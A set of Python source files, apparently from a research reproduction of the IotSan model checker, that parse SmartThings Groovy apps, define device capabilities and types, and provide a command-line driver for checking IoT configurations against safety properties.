    "schedule": 1,
    "runEvery1Minute": 0,
    "runEvery5Minutes": 0,
    "runEvery10Minutes": 0,
    "runEvery15Minutes": 0,
    "runEvery30Minutes": 0,
    "runEvery1Hour": 0,
    "runEvery3Hours": 0,
    "runDaily": 1,
}


def _literal_value(node):
    """The Python value of a literal-ish AST node, else ``None``."""
    if isinstance(node, ast.Literal):
        return node.value
    if isinstance(node, ast.ListLit):
        return [_literal_value(item) for item in node.items]
    if isinstance(node, ast.MapLit):
        return {entry.key: _literal_value(entry.value) for entry in node.entries
                if isinstance(entry.key, str)}
    if isinstance(node, ast.GString):
        # best effort: concatenate the literal fragments
        return "".join(part for part in node.parts if isinstance(part, str))
    if isinstance(node, ast.Unary) and node.op == "-":
        inner = _literal_value(node.operand)
        if isinstance(inner, (int, float)):
            return -inner
    return None


def _named_args(call):
    return {entry.key: _literal_value(entry.value) for entry in call.named
            if isinstance(entry.key, str)}


def extract_definition(program):
    """Metadata from the top-level ``definition(...)`` call."""
    for call in program.top_level_calls:
        if call.name == "definition":
            return _named_args(call)
    return {}


def _iter_calls(program, name):
    """All Call nodes with the given callee name, anywhere in the program."""
    for node in program.walk():
        if isinstance(node, ast.Call) and node.name == name:
            yield node


def _section_texts(program):
    """input Call node id -> the text of its enclosing ``section(...)``.

    The section text often carries the intent the input name omits
    (Figure 1: "Select the heater or air conditioner outlet(s)...").
    """
    texts = {}
    for section in _iter_calls(program, "section"):
        label = _literal_value(section.args[0]) if section.args else None
        if not isinstance(label, str) or section.closure is None:
            continue
        for node in section.closure.walk():
            if isinstance(node, ast.Call) and node.name == "input":
                texts[id(node)] = label
    return texts


def extract_inputs(program):
    """All ``input`` declarations, in source order.

    Handles both the positional form ``input "name", "type", title: ...`` and
    the fully-named form ``input(name: "x", type: "enum", ...)``.
    Returns a list of dicts ready for :class:`repro.smartapp.app.AppInput`.
    """
    sections = _section_texts(program)
    inputs = []
    for call in _iter_calls(program, "input"):
        named = _named_args(call)
        name = None
        type_name = None
        if call.args:
            name = _literal_value(call.args[0])
            if len(call.args) > 1:
                type_name = _literal_value(call.args[1])
        name = name or named.get("name")
        type_name = type_name or named.get("type")
        if not name or not isinstance(name, str):
            continue
        inputs.append({
            "name": name,
            "type": type_name or "text",
            "title": named.get("title") or name,
            "required": bool(named.get("required", True)),
            "multiple": bool(named.get("multiple", False)),
            "options": named.get("options"),
            "default": named.get("defaultValue"),
            "section": sections.get(id(call)),
            "line": call.line,
        })
    return inputs


def _handler_name(node):
    """Resolve a subscribe/schedule handler argument to a method name."""
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Literal) and isinstance(node.value, str):
        return node.value
    return None


def extract_subscriptions(program):
    """All ``subscribe(...)`` registrations as raw tuples.

    Each element is ``(source, attribute, value, handler, line)`` where
    ``source`` is the input name, ``"location"`` or ``"app"``; ``attribute``
    may carry a ``.value`` filter (``"switch.on"`` splits into attribute
    ``switch`` and value ``on``).
    """
    subs = []
    for call in _iter_calls(program, "subscribe"):
        if not call.args:
            continue
        target = call.args[0]
        source = None
        if isinstance(target, ast.Name):
            source = target.id
        elif isinstance(target, ast.Literal) and isinstance(target.value, str):
            source = target.value
        if source is None:
            continue
        attribute, value = None, None
        handler = None
        if len(call.args) >= 3:
            spec = _literal_value(call.args[1])
            if isinstance(spec, str):
                attribute, _, value = spec.partition(".")
                value = value or None
            handler = _handler_name(call.args[2])
        elif len(call.args) == 2:
            # subscribe(app, appTouch) / subscribe(location, modeChangeHandler)
            second = call.args[1]
            spec = _literal_value(second)
            if isinstance(spec, str) and len(call.args) == 2 and source == "app":
                attribute, handler = "app", spec
            else:
                handler = _handler_name(second)
        if source == "app":
            attribute = "app"
        elif source == "location" and not attribute:
            attribute = "mode"
        if handler:
            subs.append((source, attribute, value, handler, call.line))
    # Apps typically register the same subscriptions from both installed()
    # and updated(); only one of those runs at a time, so a registration
    # appearing in both must count once.
    unique = []
    seen = set()
    for sub in subs:
        key = sub[:4]
        if key in seen:
            continue
        seen.add(key)
        unique.append(sub)
    return unique


def extract_schedules(program):
    """All timer registrations ``(api, handler, line)``."""
    schedules = []
    for node in program.walk():
        if isinstance(node, ast.Call) and node.name in _SCHEDULE_APIS:
            index = _SCHEDULE_APIS[node.name]
            if len(node.args) > index:
                handler = _handler_name(node.args[index])
                if handler:
                    schedules.append((node.name, handler, node.line))
    return schedules
