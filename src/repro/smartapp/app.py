"""The :class:`SmartApp` object: a parsed, analyzed smart app."""

from repro.groovy import parse
from repro.smartapp import dsl


class AppInput:
    """One ``input`` declaration of an app's preferences.

    Device inputs have ``type`` of the form ``capability.<name>``; value
    inputs are ``number``/``decimal``/``enum``/``text``/``bool``/``time``/
    ``phone``/``contact``/``mode``.
    """

    __slots__ = ("name", "type", "title", "required", "multiple", "options",
                 "default", "section", "line")

    def __init__(self, name, type, title=None, required=True, multiple=False,
                 options=None, default=None, section=None, line=0):  # noqa: A002
        self.name = name
        self.type = type
        self.title = title or name
        self.required = required
        self.multiple = multiple
        self.options = options
        self.default = default
        #: text of the enclosing preferences section (intent hints, §2.2)
        self.section = section
        self.line = line

    @property
    def is_device(self):
        return isinstance(self.type, str) and self.type.startswith(dsl.DEVICE_INPUT_PREFIX)

    @property
    def capability(self):
        """Bare capability name for device inputs, else ``None``."""
        if not self.is_device:
            return None
        return self.type[len(dsl.DEVICE_INPUT_PREFIX):]

    def __repr__(self):
        return "AppInput(%r, %r)" % (self.name, self.type)


class Subscription:
    """A statically-extracted event subscription of one app.

    ``source`` is the *input name* the subscription targets (or the special
    sources ``"location"`` / ``"app"``); binding to concrete devices happens
    at model-generation time using the app's configuration.
    """

    __slots__ = ("source", "attribute", "value", "handler", "line")

    def __init__(self, source, attribute, value, handler, line=0):
        self.source = source
        self.attribute = attribute
        self.value = value
        self.handler = handler
        self.line = line

    @property
    def is_location(self):
        return self.source == "location"

    @property
    def is_app_touch(self):
        return self.source == "app"

    def __repr__(self):
        return "Subscription(%s/%s/%s -> %s)" % (
            self.source, self.attribute, self.value or "...", self.handler)


class SmartApp:
    """A parsed and statically-analyzed SmartThings smart app."""

    def __init__(self, program, source, source_name):
        self.program = program
        self.source = source
        self.source_name = source_name
        self.metadata = dsl.extract_definition(program)
        self.inputs = [AppInput(**spec) for spec in dsl.extract_inputs(program)]
        self.subscriptions = [Subscription(*spec) for spec in dsl.extract_subscriptions(program)]
        self.schedules = dsl.extract_schedules(program)

    @property
    def definition(self):
        """Alias for :attr:`metadata` (the ``definition(...)`` call)."""
        return self.metadata

    @property
    def name(self):
        return self.metadata.get("name") or self.source_name

    @property
    def description(self):
        return self.metadata.get("description", "")

    @property
    def device_inputs(self):
        return [i for i in self.inputs if i.is_device]

    @property
    def value_inputs(self):
        return [i for i in self.inputs if not i.is_device]

    def input(self, name):
        """Look up an input declaration by name."""
        for app_input in self.inputs:
            if app_input.name == name:
                return app_input
        return None

    def method(self, name):
        return self.program.method(name)

    @property
    def handler_names(self):
        """Names of methods registered as event/schedule handlers."""
        names = []
        for sub in self.subscriptions:
            if sub.handler not in names:
                names.append(sub.handler)
        for _api, handler, _line in self.schedules:
            if handler not in names:
                names.append(handler)
        return names

    def __repr__(self):
        return "SmartApp(%r)" % (self.name,)


def load_app(source, source_name="<app>"):
    """Parse Groovy source text into a :class:`SmartApp`."""
    program = parse(source, source_name)
    return SmartApp(program, source, source_name)


def load_app_file(path):
    """Load a smart app from a ``.groovy`` file."""
    with open(path, "r", encoding="utf-8") as handle:
        source = handle.read()
    name = str(path).rsplit("/", 1)[-1]
    return load_app(source, name)
