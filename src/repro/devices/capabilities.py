"""SmartThings capability catalog.

A *capability* declares the attributes a device exposes (with the event
values each attribute can take) and the commands it accepts (with the
attribute effect of each command).  Smart apps are configured against
capabilities (``input "outlets", "capability.switch"``), so this catalog is
what binds app inputs, the dependency analyzer's event descriptors, and the
model checker's event domains together.

Numeric attributes carry a small *model domain* - the discretized set of
values the checker enumerates when generating sensor events.  This mirrors
the paper's bounded enumeration of "all possible permutations of the input
physical events" (§8, Algorithm 1) over finite event alphabets.
"""

#: Wildcard sentinel used in event descriptors ("any value of this type").
ANY_VALUE = "*"


class AttributeSpec:
    """One attribute of a capability.

    ``kind`` is ``"enum"`` (finite symbolic values) or ``"numeric"``
    (discretized into ``values`` for model checking).
    """

    __slots__ = ("name", "kind", "values", "default")

    def __init__(self, name, kind, values, default):
        self.name = name
        self.kind = kind
        self.values = tuple(values)
        self.default = default
        if default not in self.values:
            raise ValueError("default %r not in domain of %s" % (default, name))

    def __repr__(self):
        return "AttributeSpec(%r, %s, default=%r)" % (self.name, self.kind, self.default)


class CommandSpec:
    """One command of a capability and its effect on an attribute.

    ``value`` is the attribute value the command sets; ``takes_arg`` commands
    (e.g. ``setLevel``) set the attribute to their first argument instead.
    """

    __slots__ = ("name", "attribute", "value", "takes_arg")

    def __init__(self, name, attribute, value=None, takes_arg=False):
        self.name = name
        self.attribute = attribute
        self.value = value
        self.takes_arg = takes_arg

    def __repr__(self):
        return "CommandSpec(%r -> %s=%r)" % (self.name, self.attribute, self.value)


class Capability:
    """A named capability: a set of attributes plus a set of commands."""

    def __init__(self, name, attributes=(), commands=()):
        self.name = name
        self.attributes = {a.name: a for a in attributes}
        self.commands = {c.name: c for c in commands}

    def __repr__(self):
        return "Capability(%r)" % (self.name,)


def _enum(name, values, default=None):
    return AttributeSpec(name, "enum", values, default if default is not None else values[0])


def _numeric(name, values, default):
    return AttributeSpec(name, "numeric", values, default)


#: Pairs of attribute values considered *conflicting* for the
#: free-of-conflicting-commands property and for related-set merging (§5):
#: receiving both within one external-event cascade is a violation.
_CONFLICT_PAIRS = {
    ("on", "off"), ("off", "on"),
    ("locked", "unlocked"), ("unlocked", "locked"),
    ("open", "closed"), ("closed", "open"),
    ("opening", "closing"), ("closing", "opening"),
    ("active", "inactive"), ("inactive", "active"),
    ("heat", "cool"), ("cool", "heat"),
    ("playing", "stopped"), ("stopped", "playing"),
    ("strobe", "off"), ("off", "strobe"),
    ("siren", "off"), ("off", "siren"),
    ("both", "off"), ("off", "both"),
}


def conflicting_values(value_a, value_b):
    """True when two attribute values are mutually conflicting."""
    return (value_a, value_b) in _CONFLICT_PAIRS


# ---------------------------------------------------------------------------
# The catalog
# ---------------------------------------------------------------------------

#: Discretized temperature domain (degrees F).  Chosen to straddle the
#: thresholds used throughout the paper's examples (setpoint 75, emergency 85).
TEMPERATURE_DOMAIN = (55, 65, 75, 85, 95)
ILLUMINANCE_DOMAIN = (5, 30, 100, 1000)
HUMIDITY_DOMAIN = (20, 40, 60, 80)
BATTERY_DOMAIN = (5, 50, 100)
LEVEL_DOMAIN = (0, 25, 50, 75, 100)
POWER_DOMAIN = (0, 50, 500, 1500)
ENERGY_DOMAIN = (0, 1, 10)

CAPABILITIES = {}


def _register(cap):
    CAPABILITIES[cap.name] = cap
    return cap


_register(Capability(
    "switch",
    attributes=[_enum("switch", ("off", "on"))],
    commands=[CommandSpec("on", "switch", "on"),
              CommandSpec("off", "switch", "off")],
))

_register(Capability(
    "switchLevel",
    attributes=[_numeric("level", LEVEL_DOMAIN, 0)],
    commands=[CommandSpec("setLevel", "level", takes_arg=True)],
))

_register(Capability(
    "motionSensor",
    attributes=[_enum("motion", ("inactive", "active"))],
))

_register(Capability(
    "contactSensor",
    attributes=[_enum("contact", ("closed", "open"))],
))

_register(Capability(
    "presenceSensor",
    attributes=[_enum("presence", ("not present", "present"), default="present")],
))

_register(Capability(
    "temperatureMeasurement",
    attributes=[_numeric("temperature", TEMPERATURE_DOMAIN, 75)],
))

_register(Capability(
    "relativeHumidityMeasurement",
    attributes=[_numeric("humidity", HUMIDITY_DOMAIN, 40)],
))

_register(Capability(
    "illuminanceMeasurement",
    attributes=[_numeric("illuminance", ILLUMINANCE_DOMAIN, 100)],
))

_register(Capability(
    "smokeDetector",
    attributes=[_enum("smoke", ("clear", "detected", "tested"))],
))

_register(Capability(
    "carbonMonoxideDetector",
    attributes=[_enum("carbonMonoxide", ("clear", "detected", "tested"))],
))

_register(Capability(
    "waterSensor",
    attributes=[_enum("water", ("dry", "wet"))],
))

_register(Capability(
    "lock",
    attributes=[_enum("lock", ("locked", "unlocked"), default="locked")],
    commands=[CommandSpec("lock", "lock", "locked"),
              CommandSpec("unlock", "lock", "unlocked")],
))

_register(Capability(
    "doorControl",
    attributes=[_enum("door", ("closed", "open"))],
    commands=[CommandSpec("open", "door", "open"),
              CommandSpec("close", "door", "closed")],
))

_register(Capability(
    "garageDoorControl",
    attributes=[_enum("door", ("closed", "open"))],
    commands=[CommandSpec("open", "door", "open"),
              CommandSpec("close", "door", "closed")],
))

_register(Capability(
    "valve",
    attributes=[_enum("valve", ("open", "closed"), default="open")],
    commands=[CommandSpec("open", "valve", "open"),
              CommandSpec("close", "valve", "closed")],
))

_register(Capability(
    "alarm",
    attributes=[_enum("alarm", ("off", "strobe", "siren", "both"))],
    commands=[CommandSpec("off", "alarm", "off"),
              CommandSpec("strobe", "alarm", "strobe"),
              CommandSpec("siren", "alarm", "siren"),
              CommandSpec("both", "alarm", "both")],
))

_register(Capability(
    "thermostat",
    attributes=[
        _enum("thermostatMode", ("off", "heat", "cool", "auto")),
        _numeric("heatingSetpoint", TEMPERATURE_DOMAIN, 65),
        _numeric("coolingSetpoint", TEMPERATURE_DOMAIN, 75),
    ],
    commands=[
        CommandSpec("setThermostatMode", "thermostatMode", takes_arg=True),
        CommandSpec("heat", "thermostatMode", "heat"),
        CommandSpec("cool", "thermostatMode", "cool"),
        CommandSpec("auto", "thermostatMode", "auto"),
        CommandSpec("setHeatingSetpoint", "heatingSetpoint", takes_arg=True),
        CommandSpec("setCoolingSetpoint", "coolingSetpoint", takes_arg=True),
    ],
))

_register(Capability(
    "accelerationSensor",
    attributes=[_enum("acceleration", ("inactive", "active"))],
))

_register(Capability(
    "button",
    attributes=[_enum("button", ("released", "pushed", "held"))],
))

_register(Capability(
    "momentary",
    attributes=[],
    commands=[CommandSpec("push", "switch", "on")],
))

_register(Capability(
    "imageCapture",
    attributes=[_enum("image", ("none", "captured"))],
    commands=[CommandSpec("take", "image", "captured")],
))

_register(Capability(
    "musicPlayer",
    attributes=[_enum("status", ("stopped", "playing", "paused"))],
    commands=[CommandSpec("play", "status", "playing"),
              CommandSpec("stop", "status", "stopped"),
              CommandSpec("pause", "status", "paused")],
))

_register(Capability(
    "speechSynthesis",
    attributes=[_enum("speech", ("idle", "speaking"))],
    commands=[CommandSpec("speak", "speech", "speaking")],
))

_register(Capability(
    "tone",
    attributes=[_enum("tone", ("idle", "beeping"))],
    commands=[CommandSpec("beep", "tone", "beeping")],
))

_register(Capability(
    "battery",
    attributes=[_numeric("battery", BATTERY_DOMAIN, 100)],
))

_register(Capability(
    "powerMeter",
    attributes=[_numeric("power", POWER_DOMAIN, 0)],
))

_register(Capability(
    "energyMeter",
    attributes=[_numeric("energy", ENERGY_DOMAIN, 0)],
))

_register(Capability(
    "sleepSensor",
    attributes=[_enum("sleeping", ("not sleeping", "sleeping"))],
))

_register(Capability(
    "windowShade",
    attributes=[_enum("windowShade", ("closed", "open", "partially open"))],
    commands=[CommandSpec("open", "windowShade", "open"),
              CommandSpec("close", "windowShade", "closed")],
))

_register(Capability(
    "colorControl",
    attributes=[_numeric("hue", (0, 25, 50, 75, 100), 0),
                _numeric("saturation", (0, 50, 100), 0)],
    commands=[CommandSpec("setHue", "hue", takes_arg=True),
              CommandSpec("setSaturation", "saturation", takes_arg=True)],
))

_register(Capability(
    "relaySwitch",
    attributes=[_enum("switch", ("off", "on"))],
    commands=[CommandSpec("on", "switch", "on"),
              CommandSpec("off", "switch", "off")],
))

# -- IFTTT service capabilities (§11: "Each service is mapped onto a sensor
#    device(s) or an actuator device(s)") ------------------------------------

_register(Capability(
    "voiceCommand",
    attributes=[_enum("phrase", ("none", "spoken"))],
))

_register(Capability(
    "phoneCall",
    attributes=[_enum("call", ("idle", "calling"))],
    commands=[CommandSpec("call", "call", "calling"),
              CommandSpec("hangup", "call", "idle"),
              CommandSpec("mute", "call", "idle")],
))


def capability(name):
    """Look up a capability by bare name or ``capability.<name>`` form."""
    key = name
    if key.startswith("capability."):
        key = key[len("capability."):]
    cap = CAPABILITIES.get(key)
    if cap is None:
        raise KeyError("unknown capability %r" % (name,))
    return cap


def command_effect(capabilities, command):
    """Resolve ``command`` against a list of capability names.

    Returns the :class:`CommandSpec` of the first capability that defines the
    command, or ``None`` when no capability does.
    """
    for cap_name in capabilities:
        cap = capability(cap_name)
        if command in cap.commands:
            return cap.commands[command]
    return None
