"""The 30 device types supported by the model generator (§8).

Each :class:`DeviceSpec` composes capabilities; its *sensor attributes* are
the attributes whose changes the checker enumerates as external physical
events (Algorithm 1 line 2), and its *actuator commands* are the commands
apps may send to it.

Environmental inputs (sunrise/sunset) and location-mode changes are modeled
separately (``repro.model``): the paper models environment events as sensor
inputs and mode changes as actuations.
"""

from repro.devices.capabilities import capability


class DeviceSpec:
    """A device type: a display name plus the capabilities it implements."""

    def __init__(self, type_name, display_name, capabilities, sensor_attrs=None,
                 description=""):
        self.type_name = type_name
        self.display_name = display_name
        self.capabilities = tuple(capabilities)
        self.description = description
        self._explicit_sensor_attrs = tuple(sensor_attrs) if sensor_attrs else None
        # capability compositions are immutable after construction, so the
        # derived views are computed once; the exploration hot path reads
        # them per transition and must not rebuild dicts each time
        self._attributes = None
        self._commands = None
        self._sensor_attributes = None

    @property
    def attributes(self):
        """All attribute specs across capabilities, keyed by name."""
        if self._attributes is None:
            attrs = {}
            for cap_name in self.capabilities:
                attrs.update(capability(cap_name).attributes)
            self._attributes = attrs
        return self._attributes

    @property
    def commands(self):
        """All command specs across capabilities, keyed by name."""
        if self._commands is None:
            commands = {}
            for cap_name in self.capabilities:
                commands.update(capability(cap_name).commands)
            self._commands = commands
        return self._commands

    @property
    def sensor_attributes(self):
        """Attributes whose changes are generated as external events.

        By default every attribute *not* writable by a command is a sensor
        attribute (a lock's ``lock`` state is actuator-driven; a motion
        sensor's ``motion`` is environment-driven).  Specs may override.
        """
        if self._sensor_attributes is None:
            if self._explicit_sensor_attrs is not None:
                self._sensor_attributes = {
                    name: spec for name, spec in self.attributes.items()
                    if name in self._explicit_sensor_attrs}
            else:
                commanded = {c.attribute for c in self.commands.values()}
                self._sensor_attributes = {
                    name: spec for name, spec in self.attributes.items()
                    if name not in commanded}
        return self._sensor_attributes

    @property
    def is_actuator(self):
        return bool(self.commands)

    @property
    def is_sensor(self):
        return bool(self.sensor_attributes)

    def has_capability(self, cap_name):
        if cap_name.startswith("capability."):
            cap_name = cap_name[len("capability."):]
        return cap_name in self.capabilities

    def __repr__(self):
        return "DeviceSpec(%r)" % (self.type_name,)


DEVICE_TYPES = {}


def _register(spec):
    DEVICE_TYPES[spec.type_name] = spec
    return spec


_register(DeviceSpec(
    "smartsense-motion", "SmartSense Motion Sensor",
    ["motionSensor", "temperatureMeasurement", "battery"],
    description="PIR motion sensor with temperature reporting."))

_register(DeviceSpec(
    "smartsense-multi", "SmartSense Multi Sensor",
    ["contactSensor", "accelerationSensor", "temperatureMeasurement", "battery"],
    description="Contact + acceleration + temperature multi sensor."))

_register(DeviceSpec(
    "smartsense-presence", "SmartSense Presence Sensor",
    ["presenceSensor", "battery"],
    description="Keyfob presence sensor."))

_register(DeviceSpec(
    "moisture-sensor", "SmartSense Moisture Sensor",
    ["waterSensor", "temperatureMeasurement", "battery"],
    description="Water leak sensor."))

_register(DeviceSpec(
    "smoke-detector", "Smoke Detector",
    ["smokeDetector", "battery"]))

_register(DeviceSpec(
    "co-detector", "Carbon Monoxide Detector",
    ["carbonMonoxideDetector", "battery"]))

_register(DeviceSpec(
    "illuminance-sensor", "Aeon Illuminance Sensor",
    ["illuminanceMeasurement", "battery"]))

_register(DeviceSpec(
    "temperature-sensor", "Temperature Sensor",
    ["temperatureMeasurement", "battery"]))

_register(DeviceSpec(
    "humidity-sensor", "Humidity Sensor",
    ["relativeHumidityMeasurement", "temperatureMeasurement", "battery"]))

_register(DeviceSpec(
    "smart-outlet", "Smart Power Outlet",
    ["switch", "powerMeter"],
    description="Pluggable outlet; apps see capability.switch."))

_register(DeviceSpec(
    "dimmer-switch", "Dimmer Switch",
    ["switch", "switchLevel"]))

_register(DeviceSpec(
    "smart-bulb", "Smart Bulb",
    ["switch", "switchLevel", "colorControl"]))

_register(DeviceSpec(
    "in-wall-switch", "In-Wall Smart Switch",
    ["switch"]))

_register(DeviceSpec(
    "zwave-lock", "Z-Wave Door Lock",
    ["lock", "battery"]))

_register(DeviceSpec(
    "garage-door-opener", "Garage Door Opener",
    ["garageDoorControl", "contactSensor"],
    sensor_attrs=["contact"]))

_register(DeviceSpec(
    "door-control", "Door Control",
    ["doorControl"]))

_register(DeviceSpec(
    "smart-valve", "Smart Water Valve",
    ["valve"]))

_register(DeviceSpec(
    "siren-strobe", "Siren/Strobe Alarm",
    ["alarm", "battery"]))

_register(DeviceSpec(
    "thermostat", "Smart Thermostat",
    ["thermostat", "temperatureMeasurement"],
    sensor_attrs=["temperature"]))

_register(DeviceSpec(
    "window-shade", "Window Shade",
    ["windowShade"]))

_register(DeviceSpec(
    "button-controller", "Button Controller",
    ["button", "battery"]))

_register(DeviceSpec(
    "momentary-tile", "Momentary Button Tile",
    ["momentary", "switch"],
    sensor_attrs=[]))

_register(DeviceSpec(
    "speaker", "Sonos Speaker",
    ["musicPlayer"]))

_register(DeviceSpec(
    "speech-device", "Speech Synthesizer",
    ["speechSynthesis"]))

_register(DeviceSpec(
    "ip-camera", "IP Camera",
    ["imageCapture"]))

_register(DeviceSpec(
    "energy-meter", "Home Energy Meter",
    ["energyMeter", "powerMeter"]))

_register(DeviceSpec(
    "acceleration-sensor", "Acceleration Sensor",
    ["accelerationSensor", "battery"]))

_register(DeviceSpec(
    "sleep-sensor", "Sleep Sensor",
    ["sleepSensor", "battery"]))

_register(DeviceSpec(
    "arrival-sensor", "Arrival Sensor",
    ["presenceSensor", "tone", "battery"]))

_register(DeviceSpec(
    "relay-switch", "Z-Wave Relay Switch",
    ["relaySwitch"]))

# -- IFTTT service devices (§11): voice assistants are sensors, the VoIP
#    call service is an actuator --------------------------------------------

_register(DeviceSpec(
    "voice-assistant", "Voice Assistant",
    ["voiceCommand"]))

_register(DeviceSpec(
    "voip-call", "VoIP Call Service",
    ["phoneCall"]))


def device_spec(type_name):
    """Look up a device spec by type name."""
    spec = DEVICE_TYPES.get(type_name)
    if spec is None:
        raise KeyError("unknown device type %r" % (type_name,))
    return spec


def specs_with_capability(cap_name):
    """All device specs implementing a capability (for config enumeration)."""
    return [spec for spec in DEVICE_TYPES.values() if spec.has_capability(cap_name)]
