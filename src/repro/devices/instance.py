"""Runtime device instances.

A :class:`DeviceInstance` is the checker-facing view of one installed
device: its spec, its current attribute values, an event queue, and the
subscriber notifiers of §8 ("Each device is modeled as having an event queue
and a set of notifiers to inform the smart apps that have subscribed").

Instances are *views over the mutable model state* owned by the explorer -
they never hold exploration state themselves, so a single instance can serve
every branch of the search.
"""

from repro.devices.catalog import device_spec


class DeviceInstance:
    """One installed device: a named instance of a :class:`DeviceSpec`."""

    def __init__(self, name, type_name, label=None):
        self.name = name
        self.spec = device_spec(type_name)
        self.label = label or name

    @property
    def type_name(self):
        return self.spec.type_name

    @property
    def display_name(self):
        return self.label

    def initial_attributes(self):
        """The attribute vector this device starts in."""
        return {attr: spec.default for attr, spec in self.spec.attributes.items()}

    def sensor_event_values(self, attribute, current_value):
        """Event values the environment can generate for ``attribute``.

        Mirrors ``sensor_state_update`` (Algorithm 1 lines 8-12): an event
        equal to the current state is dropped, so only differing values are
        enumerated.
        """
        spec = self.spec.sensor_attributes.get(attribute)
        if spec is None:
            return []
        return [value for value in spec.values if value != current_value]

    def command(self, name):
        """The :class:`CommandSpec` for ``name`` or ``None``."""
        return self.spec.commands.get(name)

    def has_capability(self, cap_name):
        return self.spec.has_capability(cap_name)

    def __repr__(self):
        return "DeviceInstance(%r, %r)" % (self.name, self.type_name)
