"""Device models: capability catalog and the 30 supported device types.

The paper's Model Generator "models IoT devices (sensors and actuators) as
per their specifications ... Each device is modeled as having an event queue
and a set of notifiers" (§8) and "currently, we support 30 different IoT
devices".  This package provides:

* :mod:`repro.devices.capabilities` - SmartThings capability specifications:
  attributes with finite event domains and commands with their effects.
* :mod:`repro.devices.catalog` - the 30 device specs built from capabilities.
* :mod:`repro.devices.instance` - runtime device instances used by the model
  checker (current attribute values, event queue, subscriber notifiers).
"""

from repro.devices.capabilities import (
    ANY_VALUE,
    AttributeSpec,
    Capability,
    CommandSpec,
    CAPABILITIES,
    capability,
    command_effect,
    conflicting_values,
)
from repro.devices.catalog import DEVICE_TYPES, DeviceSpec, device_spec, specs_with_capability
from repro.devices.instance import DeviceInstance

__all__ = [
    "ANY_VALUE",
    "AttributeSpec",
    "Capability",
    "CommandSpec",
    "CAPABILITIES",
    "capability",
    "command_effect",
    "conflicting_values",
    "DEVICE_TYPES",
    "DeviceSpec",
    "device_spec",
    "specs_with_capability",
    "DeviceInstance",
]
