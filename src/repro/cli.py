"""Command-line driver: ``python -m repro <command>``.

Commands mirror the IotSan pipeline:

* ``apps`` - list the bundled corpus (market / malicious / IFTTT rules);
* ``analyze`` - run the App Dependency Analyzer on a configuration and
  print the dependency graph and related sets (§5);
* ``check`` - model-check a configuration (JSON file or bundled group)
  against the safety properties and print violations (§8);
* ``emit`` - emit the Promela model for a configuration (§8);
* ``attribute`` - run the Output Analyzer on a newly installed app (§9);
* ``batch`` - verify several configurations in parallel across a process
  pool (``verify_many``);
* ``properties`` - list the 45-property catalog.
"""

import argparse
import json
import sys

from repro import build_system
from repro.checker.trace import render_violation_log
from repro.config.schema import SystemConfiguration
from repro.engine import (
    EngineOptions,
    ExplorationEngine,
    VerificationJob,
    strategy_names,
    verify_many,
    visited_store_names,
)
from repro.properties import build_properties, select_relevant


def _load_registry(include_ifttt=False):
    from repro.engine.batch import (
        REGISTRY_CORPUS,
        REGISTRY_CORPUS_IFTTT,
        _resolve_registry,
    )

    spec = REGISTRY_CORPUS_IFTTT if include_ifttt else REGISTRY_CORPUS
    # copy: some commands extend the registry (scan adds discovery apps)
    # and must not poison the resolver's cache
    return dict(_resolve_registry(spec))


def _load_configuration(source):
    """A configuration from a JSON file path or a bundled group name."""
    from repro.corpus.groups import GROUP_BUILDERS

    if source in GROUP_BUILDERS:
        return GROUP_BUILDERS[source]()
    try:
        with open(source, "r", encoding="utf-8") as handle:
            return SystemConfiguration.from_json(handle.read())
    except FileNotFoundError:
        raise SystemExit(
            "no such configuration %r (not a file, and bundled groups are: "
            "%s)" % (source, ", ".join(sorted(GROUP_BUILDERS))))


def cmd_apps(args):
    """List the bundled corpus (market / malicious / IFTTT)."""
    from repro.corpus import load_malicious_apps, load_market_apps

    sections = [("market", load_market_apps())]
    if args.malicious or args.all:
        sections.append(("malicious", load_malicious_apps()))
    if args.ifttt or args.all:
        from repro.ifttt.table9 import table9_registry
        sections.append(("ifttt", table9_registry()))
    for label, registry in sections:
        print("%s apps (%d):" % (label, len(registry)))
        for name in sorted(registry):
            app = registry[name]
            description = app.definition.get("description", "")
            print("  %-38s %s" % (name, description[:70]))
    return 0


def cmd_properties(args):
    """List the 45-property catalog by Table-4 category."""
    from repro.properties import properties_by_category

    for category, props in properties_by_category().items():
        print("%s (%d):" % (category, len(props)))
        for prop in props:
            print("  %-4s %s" % (prop.id, prop.name))
            if args.verbose and prop.ltl:
                print("       LTL: %s" % prop.ltl)
    return 0


def cmd_analyze(args):
    """Run the App Dependency Analyzer on a configuration (§5)."""
    from repro.deps import analyze_apps

    registry = _load_registry()
    config = _load_configuration(args.config)
    apps = [registry[a.app] for a in config.apps if a.app in registry]
    analysis = analyze_apps(apps)
    print(analysis.describe())
    print("scale ratio: %.1fx (original %d handlers -> largest related "
          "set %d)" % (analysis.scale_ratio, analysis.original_size,
                       analysis.new_size))
    return 0


def cmd_check(args):
    """Model-check a configuration against the safety properties (§8)."""
    registry = _load_registry(include_ifttt=args.ifttt)
    config = _load_configuration(args.config)
    system = build_system(config, registry=registry,
                          enable_failures=args.failures)
    properties = build_properties(args.properties or None)
    if not args.all_properties:
        properties = select_relevant(system, properties)
    result = ExplorationEngine(system, properties, _engine_options(args)).run()
    print(result.summary())
    if args.trace and result.counterexamples:
        for counterexample in result.counterexamples.values():
            print()
            print(render_violation_log(system, counterexample))
            if not args.all_traces:
                break
    return 1 if result.has_violations else 0


def cmd_batch(args):
    """Verify several configurations in parallel (``verify_many``)."""
    from repro.corpus.groups import GROUP_BUILDERS
    from repro.engine.batch import REGISTRY_CORPUS, REGISTRY_CORPUS_IFTTT

    sources = args.configs
    if not sources:
        sources = sorted(GROUP_BUILDERS)
    options = _engine_options(args)
    registry = REGISTRY_CORPUS_IFTTT if args.ifttt else REGISTRY_CORPUS
    seen, names = {}, []
    for source in sources:  # uniquify repeated sources for result keying
        count = seen.get(source, 0)
        seen[source] = count + 1
        names.append(source if count == 0 else "%s#%d" % (source, count + 1))
    jobs = [VerificationJob(name, _load_configuration(source), options,
                            properties=args.properties or None,
                            registry=registry,
                            strict=False,  # match `check` (build_system)
                            enable_failures=args.failures)
            for name, source in zip(names, sources)]
    batch = verify_many(jobs, workers=args.workers)
    print(batch.summary())
    return 1 if (batch.has_violations or batch.errors) else 0


def cmd_emit(args):
    """Emit the Promela model for a configuration (§8)."""
    from repro.translator.promela import emit_promela

    registry = _load_registry(include_ifttt=args.ifttt)
    config = _load_configuration(args.config)
    system = build_system(config, registry=registry)
    properties = select_relevant(system, build_properties())
    text = emit_promela(system, properties, mode=args.mode)
    if args.output:
        with open(args.output, "w", encoding="utf-8") as handle:
            handle.write(text)
